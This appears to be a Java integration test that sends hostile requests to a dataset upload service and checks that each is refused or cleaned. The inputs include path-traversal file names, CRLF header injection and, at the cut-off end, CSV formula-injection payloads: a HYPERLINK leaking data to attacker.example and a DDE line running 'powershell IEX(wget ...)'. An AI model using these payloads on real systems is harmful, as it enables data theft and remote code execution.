package io.datanet.upload;

import static io.datanet.platform.testing.RawHttp.announced;
import static io.datanet.platform.testing.RawHttp.bearer;
import static io.datanet.platform.testing.RawHttp.chunkedMultipart;
import static io.datanet.platform.testing.HostileInputs.concat;
import static io.datanet.platform.testing.HostileInputs.filled;
import static io.datanet.platform.testing.RawHttp.json;
import static io.datanet.platform.testing.HostileInputs.nestedArrays;
import static io.datanet.platform.testing.HostileInputs.nestedObjects;
import static io.datanet.platform.testing.AbuseCases.printable;
import static io.datanet.platform.testing.HostileInputs.randomBytes;
import static io.datanet.platform.testing.RawHttp.raw;
import static io.datanet.platform.testing.HostileInputs.utf8;
import static io.datanet.upload.UploadFixtures.createDatanet;
import static io.datanet.upload.UploadFixtures.jsonl;
import static io.datanet.upload.UploadFixtures.newContributor;
import static io.restassured.RestAssured.given;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import io.datanet.events.CloudEvent;
import io.datanet.events.Topics;
import io.datanet.events.UploadValidated;
import io.datanet.events.Verdict;
import io.datanet.events.VerdictSource;
import io.datanet.platform.kafka.TopicNames;
import io.datanet.platform.testing.HostileInputs;
import io.datanet.platform.testing.RawHttp;
import io.datanet.platform.testing.AbuseCases;
import io.datanet.platform.testing.RawHttp.Answer;
import io.datanet.platform.testing.AbuseCases.Endpoint;
import io.datanet.platform.testing.DatanetTestResource;
import io.datanet.platform.testing.TestEvents;
import io.datanet.platform.testing.TestTokens;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import jakarta.inject.Inject;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.Collections;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * Hostile requests to every endpoint of upload-service: malformed, oversized and mistyped bodies, hostile files
 * and multipart envelopes (two file parts), odd path and query parameters, forged, expired and misplaced tokens,
 * another contributor's resources, and requests refused only once their content is known (an Idempotency-Key reused
 * for another file, also over the daily bytes; content uploaded before). Each gets the right 4xx as problem JSON and stores nothing (the datanets, the uploads
 * of everyone involved and the blob store stay as they were). File names that only need cleaning are accepted
 * and cleaned, and nothing is written outside the blob store; a CSV with formula cells is taken as text for
 * validation.
 */
@QuarkusTest
@WithTestResource(DatanetTestResource.class)
class AbuseTest {

    /** The size of the table below; RELIABILITY.md reports it. */
    static final int CASES = 547;

    @Inject
    TopicNames topics;
    @ConfigProperty(name = "datanet.blob.dir")
    Path blobDir;

    @TestFactory
    Stream<DynamicTest> hostileRequestsAreRefusedAndChangeNothing() throws Exception {
        String owner = newContributor();
        String victim = newContributor();
        String attacker = newContributor();
        String open = createDatanet(owner, "auto");
        String reviewed = createDatanet(owner, "owner");
        String jsonlOnly = given().auth().oauth2(TestTokens.contributor(owner)).contentType(ContentType.JSON)
                .body("{\"name\":\"Only JSONL\",\"fileTypes\":[\"jsonl\"]}").post("/api/datanets")
                .then().statusCode(201).extract().path("id");
        String victimsUpload = pendingReview(victim, reviewed);
        String ownersOwnUpload = pendingReview(owner, reviewed);

        // Contributors whose Idempotency-Key is already used: one within her limits, one over her daily bytes
        String reuser = newContributor();
        UploadFixtures.upload(reuser, open, "first.jsonl", jsonl("reuser")).then().statusCode(202);
        given().auth().oauth2(TestTokens.contributor(reuser)).header("Idempotency-Key", "used-key")
                .multiPart("file", "keyed.jsonl", utf8(jsonl("reuser keyed"))).post("/api/datanets/" + open + "/uploads")
                .then().statusCode(202);
        String spent = newContributor();
        String spentFirst = createDatanet(owner, "auto");
        given().auth().oauth2(TestTokens.contributor(spent)).header("Idempotency-Key", "spent-key")
                .multiPart("file", "big1.txt", letters('b', 5_000_000)).post("/api/datanets/" + spentFirst + "/uploads")
                .then().statusCode(202);
        UploadFixtures.upload(spent, createDatanet(owner, "auto"), "big2.txt", letters('c', 5_000_000)).then().statusCode(202);

        String token = TestTokens.contributor(attacker);
        String auditor = TestTokens.operator("auditor");
        AbuseCases cases = new AbuseCases("upload-service", () -> state(token, victimsUpload, auditor, open));
        String ownerToken = TestTokens.contributor(owner);

        // POST /api/datanets: what is not a datanet definition
        String datanets = "/api/datanets";
        cases.expect("datanet: random bytes", 400, () -> raw("POST", datanets, token, "application/json", randomBytes(4096)));
        cases.expect("datanet: invalid UTF-8 in a string", 400, () -> raw("POST", datanets, token, "application/json",
                concat(utf8("{\"name\":\""), new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF}, utf8("\"}"))));
        cases.expect("datanet: a JSON array", 400, () -> json("POST", datanets, token, "[{\"name\":\"x\"}]"));
        cases.expect("datanet: JSON null", 400, () -> json("POST", datanets, token, "null"));
        cases.expect("datanet: a JSON number", 400, () -> json("POST", datanets, token, "42"));
        cases.expect("datanet: a JSON string", 400, () -> json("POST", datanets, token, "\"Cooking\""));
        cases.expect("datanet: no body", 400, () -> json("POST", datanets, token, ""));
        cases.expect("datanet: truncated JSON", 400, () -> json("POST", datanets, token, "{\"name\":\"Cook"));
        cases.expect("datanet: 10,000 nested arrays", 400, () -> json("POST", datanets, token,
                "{\"name\":\"x\",\"tags\":" + nestedArrays(10_000) + "}"));
        cases.expect("datanet: 10,000 nested objects in an unknown member", 400, () -> json("POST", datanets, token,
                "{\"name\":\"x\",\"extra\":" + nestedObjects(10_000) + "}"));
        cases.expect("datanet: a 1 MB name", 422, () -> json("POST", datanets, token, "{\"name\":\"" + "n".repeat(1 << 20) + "\"}"));
        cases.expect("datanet: a 6 MB JSON body, announced", 413, () -> announced("POST", datanets, bearer(token),
                "application/json", 6 << 20));
        cases.expect("datanet: a 5,000-digit number", 400, () -> json("POST", datanets, token,
                "{\"name\":\"x\",\"acceptanceThreshold\":0." + "1".repeat(5000) + "}"));
        cases.expect("datanet: threshold 1e999", 422, () -> json("POST", datanets, token, "{\"name\":\"x\",\"acceptanceThreshold\":1e999}"));
        cases.expect("datanet: threshold \"NaN\"", 422, () -> json("POST", datanets, token, "{\"name\":\"x\",\"acceptanceThreshold\":\"NaN\"}"));
        cases.expect("datanet: an unknown review mode", 400, () -> json("POST", datanets, token, "{\"name\":\"x\",\"reviewMode\":\"everyone\"}"));
        cases.expect("datanet: an unknown file type", 422, () -> json("POST", datanets, token, "{\"name\":\"x\",\"fileTypes\":[\"exe\"]}"));
        cases.expect("datanet: a null file type", 422, () -> json("POST", datanets, token, "{\"name\":\"x\",\"fileTypes\":[null]}"));
        cases.expect("datanet: an object where a list belongs", 400, () -> json("POST", datanets, token, "{\"name\":\"x\",\"tags\":{\"a\":1}}"));
        cases.expect("datanet: an object where a string belongs", 400, () -> json("POST", datanets, token, "{\"name\":{\"first\":\"x\"}}"));
        cases.expect("datanet: a tag with a comma (the stored list's separator)", 422, () -> json("POST", datanets, token,
                "{\"name\":\"x\",\"tags\":[\"a,b\"]}"));
        cases.expect("datanet: 10,000 tags", 422, () -> json("POST", datanets, token,
                "{\"name\":\"x\",\"tags\":[" + String.join(",", Collections.nCopies(10_000, "\"t\"")) + "]}"));
        cases.expect("datanet: NUL in the name", 422, () -> json("POST", datanets, token, "{\"name\":\"Cook\\u0000ing\"}"));
        cases.expect("datanet: an escape sequence in the name", 422, () -> json("POST", datanets, token, "{\"name\":\"\\u001b[2JCooking\"}"));
        cases.expect("datanet: NUL in the description", 422, () -> json("POST", datanets, token, "{\"name\":\"x\",\"description\":\"a\\u0000b\"}"));
        cases.expect("datanet: a lone surrogate in the name", 422, () -> json("POST", datanets, token, "{\"name\":\"Cook\\ud800ing\"}"));
        cases.expect("datanet: text/plain", 415, () -> raw("POST", datanets, token, "text/plain", utf8("{\"name\":\"x\"}")));
        cases.expect("datanet: application/xml", 415, () -> raw("POST", datanets, token, "application/xml", utf8("<datanet><name>x</name></datanet>")));
        cases.expect("datanet: multipart", 415, () -> raw("POST", datanets, token, "multipart/form-data; boundary=b",
                utf8("--b\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nx\r\n--b--\r\n")));

        // GET /api/datanets, /api/datanets/{id}: odd query and path parameters
        cases.expect("datanets: page -1", 400, () -> json("GET", "/api/datanets?page=-1", token, null));
        cases.expect("datanets: size 0", 400, () -> json("GET", "/api/datanets?size=0", token, null));
        cases.expect("datanets: size 1,000,000", 400, () -> json("GET", "/api/datanets?size=1000000", token, null));
        cases.expect("datanets: page not a number", 400, () -> json("GET", "/api/datanets?page=abc", token, null));
        cases.expect("datanets: page past the int range", 400, () -> json("GET", "/api/datanets?page=99999999999", token, null));
        cases.expect("datanets: a page whose offset overflows", 400, () -> json("GET", "/api/datanets?page=2147483647&size=100", token, null));
        HostileInputs.oddIds().forEach((id, status) -> cases.expect("datanet id " + printable(id), status,
                () -> json("GET", "/api/datanets/" + id, token, null)));

        // PUT /api/datanets/{id}, POST /api/datanets/{id}/archive: bodies, odd ids, the wrong people, stale versions
        String definition = "/api/datanets/" + open;
        cases.expect("edit: random bytes", 400, () -> raw("PUT", definition, ownerToken, "application/json", randomBytes(4096)));
        cases.expect("edit: a JSON array", 400, () -> json("PUT", definition, ownerToken, "[{\"name\":\"x\"}]"));
        cases.expect("edit: JSON null", 400, () -> json("PUT", definition, ownerToken, "null"));
        cases.expect("edit: truncated JSON", 400, () -> json("PUT", definition, ownerToken, "{\"name\":\"Cook"));
        cases.expect("edit: 10,000 nested arrays", 400, () -> json("PUT", definition, ownerToken,
                "{\"name\":\"x\",\"tags\":" + nestedArrays(10_000) + "}"));
        cases.expect("edit: a 1 MB name", 422, () -> json("PUT", definition, ownerToken, "{\"name\":\"" + "n".repeat(1 << 20) + "\"}"));
        cases.expect("edit: a 6 MB JSON body, announced", 413, () -> announced("PUT", definition, bearer(ownerToken),
                "application/json", 6 << 20));
        cases.expect("edit: NUL in the description", 422, () -> json("PUT", definition, ownerToken, "{\"name\":\"x\",\"description\":\"a\\u0000b\"}"));
        cases.expect("edit: an unknown file type", 422, () -> json("PUT", definition, ownerToken, "{\"name\":\"x\",\"fileTypes\":[\"exe\"]}"));
        cases.expect("edit: threshold 1e999", 422, () -> json("PUT", definition, ownerToken, "{\"name\":\"x\",\"acceptanceThreshold\":1e999}"));
        cases.expect("edit: an unknown review mode", 400, () -> json("PUT", definition, ownerToken, "{\"name\":\"x\",\"reviewMode\":\"nobody\"}"));
        cases.expect("edit: text/plain", 415, () -> raw("PUT", definition, ownerToken, "text/plain", utf8("{\"name\":\"x\"}")));
        cases.expect("edit: by a stranger", 403, () -> json("PUT", definition, token, "{\"name\":\"x\"}"));
        cases.expect("edit: by a validator", 403, () -> json("PUT", definition, TestTokens.validator(attacker), "{\"name\":\"x\"}"));
        cases.expect("edit: by a contributor to it", 403, () -> json("PUT", definition, TestTokens.contributor(reuser), "{\"name\":\"x\"}"));
        cases.expect("edit: If-Match of a version it never had", 412, () -> RawHttp.send("PUT", definition,
                bearer(ownerToken), "application/json", utf8("{\"name\":\"x\"}"), Map.of("If-Match", "\"7\"")));
        cases.expect("edit: If-Match not an ETag", 400, () -> RawHttp.send("PUT", definition,
                bearer(ownerToken), "application/json", utf8("{\"name\":\"x\"}"), Map.of("If-Match", "version 1")));
        cases.expect("edit: If-Match past the int range", 400, () -> RawHttp.send("PUT", definition,
                bearer(ownerToken), "application/json", utf8("{\"name\":\"x\"}"), Map.of("If-Match", "\"99999999999\"")));
        cases.expect("archive: by a stranger", 403, () -> json("POST", definition + "/archive", token, null));
        cases.expect("archive: by a validator", 403, () -> json("POST", definition + "/archive", TestTokens.validator(attacker), null));
        cases.expect("archive: GET", 405, () -> json("GET", definition + "/archive", ownerToken, null));
        cases.expect("datanet: DELETE (archive it instead)", 405, () -> json("DELETE", definition, ownerToken, null));
        HostileInputs.oddIds().forEach((id, status) -> cases.expect("edit of datanet id " + printable(id), status,
                () -> json("PUT", "/api/datanets/" + id, ownerToken, "{\"name\":\"x\"}")));
        HostileInputs.oddIds().forEach((id, status) -> cases.expect("archive of datanet id " + printable(id), status,
                () -> json("POST", "/api/datanets/" + id + "/archive", ownerToken, null)));

        // POST /api/datanets/{id}/uploads: hostile files and envelopes
        String uploads = "/api/datanets/" + open + "/uploads";
        cases.expect("upload: random bytes as .jsonl", 415, () -> upload(uploads, token, "r.jsonl", randomBytes(64 * 1024)));
        cases.expect("upload: invalid UTF-8 in a .txt", 415, () -> upload(uploads, token, "bad.txt",
                concat(utf8("Good start "), new byte[] {(byte) 0xC3, 0x28, (byte) 0xA0, (byte) 0xA1})));
        cases.expect("upload: an overlong UTF-8 '/' in a .csv", 415, () -> upload(uploads, token, "o.csv",
                concat(utf8("text\n.."), new byte[] {(byte) 0xC0, (byte) 0xAF}, utf8("etc\n"))));
        cases.expect("upload: a UTF-8-encoded surrogate in a .md", 415, () -> upload(uploads, token, "s.md",
                concat(utf8("# Title\n"), new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80})));
        cases.expect("upload: UTF-16 text as .txt", 415, () -> upload(uploads, token, "u16.txt",
                "A paragraph about soup.".getBytes(StandardCharsets.UTF_16)));
        cases.expect("upload: a multi-byte sequence cut at the end", 415, () -> upload(uploads, token, "t.txt",
                concat(utf8("A paragraph about cr"), new byte[] {(byte) 0xE2, (byte) 0x82})));
        cases.expect("upload: text named .pdf", 415, () -> upload(uploads, token, "doc.pdf", utf8("just text")));
        cases.expect("upload: random bytes named .docx", 415, () -> upload(uploads, token, "doc.docx", randomBytes(2048)));
        cases.expect("upload: an .exe", 415, () -> upload(uploads, token, "tool.exe", utf8("MZ")));
        cases.expect("upload: a double extension .jsonl.exe", 415, () -> upload(uploads, token, "a.jsonl.exe", utf8("x")));
        cases.expect("upload: no extension", 415, () -> upload(uploads, token, "README", utf8("x")));
        cases.expect("upload: a type this datanet does not take", 415, () -> upload("/api/datanets/" + jsonlOnly + "/uploads",
                token, "a.csv", utf8("text\nA row about bread and butter.\n")));
        cases.expect("upload: an empty file", 422, () -> upload(uploads, token, "empty.jsonl", new byte[0]));
        cases.expect("upload: a file of 5 MiB + 1 byte", 413, () -> upload(uploads, token, "big.txt", filled(5 * 1024 * 1024 + 1)));
        cases.expect("upload: a 6 MB multipart body, announced", 413, () -> announced("POST", uploads, bearer(token),
                "multipart/form-data; boundary=b", 6 << 20));
        cases.expect("upload: a 6 MB chunked multipart body (no Content-Length)", 413,
                () -> chunkedMultipart(uploads, bearer(token), "file", 6 * 1024 * 1024));
        cases.expect("upload: the request after a refused chunked body", 415, () -> upload(uploads, token, "after.exe", utf8("x")));
        cases.expect("upload: no file part", 400, () -> raw("POST", uploads, token, "multipart/form-data; boundary=b",
                utf8("--b\r\nContent-Disposition: form-data; name=\"other\"\r\n\r\nx\r\n--b--\r\n")));
        cases.expect("upload: a file part without a file name", 400, () -> raw("POST", uploads, token, "multipart/form-data; boundary=b",
                utf8("--b\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\n{\"text\":\"x\"}\r\n--b--\r\n")));
        for (String name : List.of("..", "/", "../../..", "\u0000\u0001", " ", "\u202E")) {
            cases.expect("upload: file name " + printable(name), 400, () -> upload(uploads, token, name,
                    utf8(jsonl(UUID.randomUUID().toString()))));
        }
        cases.expect("upload: a multipart boundary declared, random bytes sent", 400, () -> raw("POST", uploads, token,
                "multipart/form-data; boundary=xyz", randomBytes(8192)));
        cases.expect("upload: multipart without a boundary", 400, () -> raw("POST", uploads, token, "multipart/form-data",
                utf8("--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n\r\nhello\r\n--b--\r\n")));
        cases.expect("upload: multipart cut off before its end", 400, () -> raw("POST", uploads, token, "multipart/form-data; boundary=b",
                utf8("--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n\r\nA paragraph that never ends")));
        cases.expect("upload: two file parts", 400, () -> raw("POST", uploads, token, "multipart/form-data; boundary=b",
                utf8("--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.jsonl\"\r\n\r\n" + jsonl("two a")
                        + "\r\n--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"b.jsonl\"\r\n\r\n" + jsonl("two b")
                        + "\r\n--b--\r\n")));
        cases.expect("upload: a file part and a second one under another name", 400, () -> raw("POST", uploads, token,
                "multipart/form-data; boundary=b", utf8("--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.jsonl\"\r\n\r\n"
                        + jsonl("pair a") + "\r\n--b\r\nContent-Disposition: form-data; name=\"extra\"; filename=\"b.jsonl\"\r\n\r\n"
                        + jsonl("pair b") + "\r\n--b--\r\n")));
        cases.expect("upload: only a file part under another name", 400, () -> RawHttp.multipart(uploads, bearer(token),
                "document", "d.jsonl", utf8(jsonl("document part")), Map.of()));
        String reuserToken = TestTokens.contributor(reuser);
        cases.expect("upload: an Idempotency-Key reused with another file", 422, () -> upload(uploads, reuserToken,
                "other.jsonl", utf8(jsonl("reuser other")), Map.of("Idempotency-Key", "used-key")));
        cases.expect("upload: an Idempotency-Key reused with another file, over the daily bytes", 422, () -> upload(
                "/api/datanets/" + spentFirst + "/uploads", TestTokens.contributor(spent), "more.txt", letters('d', 600_000),
                Map.of("Idempotency-Key", "spent-key")));
        cases.expect("upload: a new file over the daily bytes", 429, () -> upload("/api/datanets/" + spentFirst + "/uploads",
                TestTokens.contributor(spent), "more.txt", letters('e', 600_000)));
        cases.expect("upload: the same content again", 409, () -> upload(uploads, reuserToken, "again.jsonl", utf8(jsonl("reuser"))));
        cases.expect("upload: the same content again under another key", 409, () -> upload(uploads, reuserToken,
                "again.jsonl", utf8(jsonl("reuser")), Map.of("Idempotency-Key", "fresh-key")));
        cases.expect("upload: a JSON body", 415, () -> json("POST", uploads, token, "{\"file\":\"x\"}"));
        cases.expect("upload: a text/plain body", 415, () -> raw("POST", uploads, token, "text/plain", utf8("hello")));
        cases.expect("upload: a form-urlencoded body", 415, () -> raw("POST", uploads, token, "application/x-www-form-urlencoded", utf8("file=hello")));
        cases.expect("upload: an Idempotency-Key with a tab", 400, () -> upload(uploads, token, "k.jsonl", utf8(jsonl("k1")),
                Map.of("Idempotency-Key", "key\twith-tab")));
        cases.expect("upload: an Idempotency-Key of 16 KB", 400, () -> upload(uploads, token, "k.jsonl", utf8(jsonl("k2")),
                Map.of("Idempotency-Key", "k".repeat(16 * 1024))));
        cases.expect("upload: an Idempotency-Key with spaces", 400, () -> upload(uploads, token, "k.jsonl", utf8(jsonl("k3")),
                Map.of("Idempotency-Key", "a key with spaces")));
        HostileInputs.oddIds().forEach((id, status) -> cases.expect("upload to datanet id " + printable(id), status,
                () -> upload("/api/datanets/" + id + "/uploads", token, "a.jsonl", utf8(jsonl("odd " + id.length())))));

        // GET /api/uploads, /api/uploads/{id}: odd parameters, another contributor's upload
        cases.expect("uploads: an unknown status", 400, () -> json("GET", "/api/uploads?status=DELETED", token, null));
        cases.expect("uploads: a status with NUL", 400, () -> json("GET", "/api/uploads?status=%00", token, null));
        cases.expect("uploads: page -5", 400, () -> json("GET", "/api/uploads?page=-5", token, null));
        cases.expect("uploads: size 101", 400, () -> json("GET", "/api/uploads?size=101", token, null));
        cases.expect("uploads: size not a number", 400, () -> json("GET", "/api/uploads?size=ten", token, null));
        cases.expect("uploads: a page whose offset overflows", 400, () -> json("GET", "/api/uploads?page=2147483647&size=100", token, null));
        cases.expect("uploads: a datanet filter with NUL", 400, () -> json("GET", "/api/uploads?datanet=%00", token, null));
        cases.expect("upload: another contributor's upload", 404, () -> json("GET", "/api/uploads/" + victimsUpload, token, null));
        HostileInputs.oddIds().forEach((id, status) -> cases.expect("upload id " + printable(id), status,
                () -> json("GET", "/api/uploads/" + id, token, null)));

        // GET /api/datanets/{id}/uploads: odd parameters, odd ids, people other than the owner
        String listing = "/api/datanets/" + reviewed + "/uploads";
        cases.expect("datanet uploads: an unknown status", 400, () -> json("GET", listing + "?status=DELETED", ownerToken, null));
        cases.expect("datanet uploads: size 0", 400, () -> json("GET", listing + "?size=0", ownerToken, null));
        cases.expect("datanet uploads: a page whose offset overflows", 400, () -> json("GET", listing + "?page=2147483647&size=100", ownerToken, null));
        cases.expect("datanet uploads: by a stranger", 403, () -> json("GET", listing, token, null));
        cases.expect("datanet uploads: by the uploader, not the owner", 403, () -> json("GET", listing, TestTokens.contributor(victim), null));
        cases.expect("datanet uploads: by a validator", 403, () -> json("GET", listing, TestTokens.validator(attacker), null));
        HostileInputs.oddIds().forEach((id, status) -> cases.expect("uploads of datanet id " + printable(id), status,
                () -> json("GET", "/api/datanets/" + id + "/uploads", ownerToken, null)));

        // POST /api/uploads/{id}/review: bodies, odd ids, the wrong people
        String review = "/api/uploads/" + victimsUpload + "/review";
        cases.expect("review: random bytes", 400, () -> raw("POST", review, ownerToken, "application/json", randomBytes(2048)));
        cases.expect("review: a JSON array", 400, () -> json("POST", review, ownerToken, "[\"APPROVE\"]"));
        cases.expect("review: JSON null", 422, () -> json("POST", review, ownerToken, "null"));
        cases.expect("review: a JSON number", 400, () -> json("POST", review, ownerToken, "1"));
        cases.expect("review: an unknown decision", 400, () -> json("POST", review, ownerToken, "{\"decision\":\"DELETE\"}"));
        cases.expect("review: no decision", 422, () -> json("POST", review, ownerToken, "{\"comment\":\"hm\"}"));
        cases.expect("review: a 1 MB comment", 422, () -> json("POST", review, ownerToken,
                "{\"decision\":\"APPROVE\",\"comment\":\"" + "c".repeat(1 << 20) + "\"}"));
        cases.expect("review: NUL in the comment", 422, () -> json("POST", review, ownerToken, "{\"decision\":\"APPROVE\",\"comment\":\"o\\u0000k\"}"));
        cases.expect("review: 10,000 nested arrays", 400, () -> json("POST", review, ownerToken, "{\"decision\":" + nestedArrays(10_000) + "}"));
        cases.expect("review: a 6 MB JSON body, announced", 413, () -> announced("POST", review, bearer(ownerToken),
                "application/json", 6 << 20));
        cases.expect("review: text/plain", 415, () -> raw("POST", review, ownerToken, "text/plain", utf8("APPROVE")));
        cases.expect("review: by the uploader, not the owner", 403, () -> json("POST", review, TestTokens.contributor(victim), "{\"decision\":\"APPROVE\"}"));
        cases.expect("review: by a stranger", 404, () -> json("POST", review, token, "{\"decision\":\"APPROVE\"}"));
        cases.expect("review: by a validator, not the owner", 404, () -> json("POST", review, TestTokens.validator(attacker), "{\"decision\":\"APPROVE\"}"));
        HostileInputs.oddIds().forEach((id, status) -> cases.expect("review of upload id " + printable(id), status,
                () -> json("POST", "/api/uploads/" + id + "/review", ownerToken, "{\"decision\":\"APPROVE\"}")));
        // No one reviews their own upload, whatever their role (an operator is checked by the last case)
        String ownReview = "/api/uploads/" + ownersOwnUpload + "/review";
        cases.expect("review: the owner of her own upload", 403, () -> json("POST", ownReview, ownerToken, "{\"decision\":\"APPROVE\"}"));
        cases.expect("review: the owner of her own upload, as an operator", 403, () -> json("POST", ownReview,
                TestTokens.operator(owner), "{\"decision\":\"APPROVE\"}"));

        // POST /api/uploads/{id}/withdraw: only its contributor withdraws an upload
        String withdraw = "/api/uploads/" + victimsUpload + "/withdraw";
        cases.expect("withdraw: by a stranger", 404, () -> json("POST", withdraw, token, null));
        cases.expect("withdraw: by a stranger claiming to be its contributor", 404, () -> json("POST", withdraw, token,
                "{\"contributorId\":\"" + victim + "\"}"));
        cases.expect("withdraw: by a validator", 404, () -> json("POST", withdraw, TestTokens.validator(attacker), null));
        cases.expect("withdraw: by the datanet's owner", 403, () -> json("POST", withdraw, ownerToken, null));
        cases.expect("withdraw: by an operator", 403, () -> json("POST", withdraw, auditor, null));
        cases.expect("withdraw: GET", 405, () -> json("GET", withdraw, TestTokens.contributor(victim), null));
        HostileInputs.oddIds().forEach((id, status) -> cases.expect("withdraw of upload id " + printable(id), status,
                () -> json("POST", "/api/uploads/" + id + "/withdraw", token, null)));

        // POST /api/contributors/{id}/erasure: operators only, on a request named in one line
        String erasure = "/api/contributors/" + victim + "/erasure";
        String request = "{\"reference\":\"ticket 1\"}";
        cases.expect("erasure: by the contributor herself", 403, () -> json("POST", erasure, TestTokens.contributor(victim), request));
        cases.expect("erasure: by a validator", 403, () -> json("POST", erasure, TestTokens.validator(attacker), request));
        cases.expect("erasure: by the datanet's owner", 403, () -> json("POST", erasure, ownerToken, request));
        cases.expect("erasure: random bytes", 400, () -> raw("POST", erasure, auditor, "application/json", randomBytes(2048)));
        cases.expect("erasure: a JSON array", 400, () -> json("POST", erasure, auditor, "[\"ticket 1\"]"));
        cases.expect("erasure: no reference", 422, () -> json("POST", erasure, auditor, "{}"));
        cases.expect("erasure: NUL in the reference", 422, () -> json("POST", erasure, auditor, "{\"reference\":\"t\\u0000\"}"));
        cases.expect("erasure: a 1 MB reference", 422, () -> json("POST", erasure, auditor,
                "{\"reference\":\"" + "r".repeat(1 << 20) + "\"}"));
        cases.expect("erasure: text/plain", 415, () -> raw("POST", erasure, auditor, "text/plain", utf8("ticket 1")));
        cases.expect("erasure: GET", 405, () -> json("GET", erasure, auditor, null));
        cases.expect("erasure: NUL in the contributor id", 400, () -> json("POST", "/api/contributors/%00/erasure", auditor, request));
        cases.expect("erasure: CR LF in the contributor id", 400, () -> json("POST",
                "/api/contributors/%0D%0AX-Injected:%201/erasure", auditor, request));

        // GET /api/quota: only the method and the token to abuse
        cases.expect("quota: POST", 405, () -> json("POST", "/api/quota", token, "{}"));
        cases.expect("quota: DELETE", 405, () -> json("DELETE", "/api/quota", token, null));

        // Tokens, on every /api endpoint
        Map<String, Endpoint> endpoints = new LinkedHashMap<>();
        endpoints.put("POST /api/datanets", auth -> send("POST", datanets, auth, "{\"name\":\"x\"}"));
        endpoints.put("GET /api/datanets", auth -> send("GET", datanets, auth, null));
        endpoints.put("GET /api/datanets/{id}", auth -> send("GET", "/api/datanets/" + open, auth, null));
        endpoints.put("PUT /api/datanets/{id}", auth -> send("PUT", "/api/datanets/" + open, auth, "{\"name\":\"x\"}"));
        endpoints.put("POST /api/datanets/{id}/archive", auth -> send("POST", "/api/datanets/" + open + "/archive", auth, null));
        endpoints.put("POST /api/datanets/{id}/uploads", auth -> RawHttp.multipart(uploads, auth, "file", "t.jsonl",
                utf8(jsonl("token " + UUID.randomUUID())), Map.of()));
        endpoints.put("GET /api/datanets/{id}/uploads", auth -> send("GET", listing, auth, null));
        endpoints.put("GET /api/uploads", auth -> send("GET", "/api/uploads", auth, null));
        endpoints.put("GET /api/uploads/{id}", auth -> send("GET", "/api/uploads/" + victimsUpload, auth, null));
        endpoints.put("POST /api/uploads/{id}/review", auth -> send("POST", review, auth, "{\"decision\":\"APPROVE\"}"));
        endpoints.put("POST /api/uploads/{id}/withdraw", auth -> send("POST", withdraw, auth, null));
        endpoints.put("POST /api/contributors/{id}/erasure", auth -> send("POST", erasure, auth, request));
        endpoints.put("GET /api/quota", auth -> send("GET", "/api/quota", auth, null));
        cases.expectEach(401, HostileInputs.forgedAuthorizations(owner), endpoints);
        cases.expectEach(401, HostileInputs.tokensBreakingTheRules(owner), endpoints);
        cases.expectRefusedByTheHttpLayer("/api/uploads", bearer(token));

        // File names that are cleaned, not refused: accepted, and nothing lands outside the blob store
        String marker = "abuse-" + UUID.randomUUID().toString().substring(0, 8);
        List<String> names = List.of("../../../../../../tmp/" + marker + ".jsonl", "..\\..\\..\\" + marker + ".jsonl",
                "/etc/" + marker + ".jsonl", "C:\\Windows\\" + marker + ".jsonl", "a/../../" + marker + ".jsonl",
                marker + "\u0000.txt.jsonl", marker + "\u001b[31mred\u001b[0m.jsonl", "\u202Elnosj." + marker + ".jsonl",
                marker + "\u200B\u2066.jsonl", "n".repeat(1 << 20) + ".jsonl");
        for (String name : names) {
            cases.check("file name " + printable(name) + " is cleaned", () -> {
                // one contributor each: at most 5 uploads may wait for validation
                Answer answer = upload(uploads, TestTokens.contributor(newContributor()), name, utf8(jsonl(marker + " " + name.length() + name.hashCode())));
                if (answer.status() != 202) {
                    return "expected 202, got " + answer;
                }
                String stored = answer.json().path("fileName").asText();
                boolean clean = !stored.isEmpty() && stored.length() <= 200 && stored.endsWith(".jsonl")
                        && !stored.contains("/") && !stored.contains("\\") && stored.codePoints().noneMatch(c ->
                        Character.isISOControl(c) || Character.getType(c) == Character.FORMAT);
                return clean ? null : "stored as " + printable(stored);
            });
        }
        cases.check("nothing written outside the blob store", () -> {
            StringBuilder wrong = new StringBuilder();
            try (Stream<Path> inside = Files.walk(blobDir)) {
                inside.filter(Files::isRegularFile).map(p -> blobDir.relativize(p).toString())
                        .filter(p -> !p.startsWith("sha256/") && !p.startsWith("ns/upload/sha256/") && !p.startsWith("tmp/"))
                        .forEach(p -> wrong.append(" blob store holds ").append(p));
            }
            for (Path place : List.of(Path.of("/tmp"), Path.of("").toAbsolutePath(), blobDir.getParent(), Path.of("/etc"))) {
                try (Stream<Path> files = Files.walk(place, 4)) {
                    files.filter(p -> p.getFileName() != null && p.getFileName().toString().contains(marker))
                            .forEach(p -> wrong.append(" written: ").append(p));
                } catch (IOException | UncheckedIOException unreadable) {
                    // corners of /tmp this user cannot read hold nothing of ours
                }
            }
            return wrong.isEmpty() ? null : wrong.toString();
        });

        // CSV formula injection: text like any other, stored byte for byte for validation; nothing here evaluates it
        byte[] formulas = utf8("text\n"
                + "\"=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A1,\"\"Click for the full recipe\"\")\"\n"
                + "+cmd|' /C calc'!A0 is how the old spreadsheet exploit began, followed by a recipe\n"
                + "@SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0\n"
                + "-2+3+cmd|' /C notepad'!'A1' and then simmer the onions slowly in butter\n"
